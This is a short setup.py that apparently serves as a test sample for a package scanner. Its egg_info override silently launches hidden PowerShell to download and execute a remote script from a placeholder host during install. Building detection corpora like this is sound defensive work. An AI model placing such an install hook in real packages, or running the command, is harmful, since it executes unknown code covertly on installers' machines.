# pkgguard corpus 003 (install-hook), modelled on [taxonomy]; inert, never run.
import subprocess
from setuptools import setup
from setuptools.command.egg_info import egg_info


class Info(egg_info):
    def run(self):
        subprocess.Popen(["powershell", "-w", "hidden", "-c", "iwr https://cdn.example/a.ps1 | iex"])
        egg_info.run(self)


setup(name="pkg", version="2.0", cmdclass={"egg_info": Info})
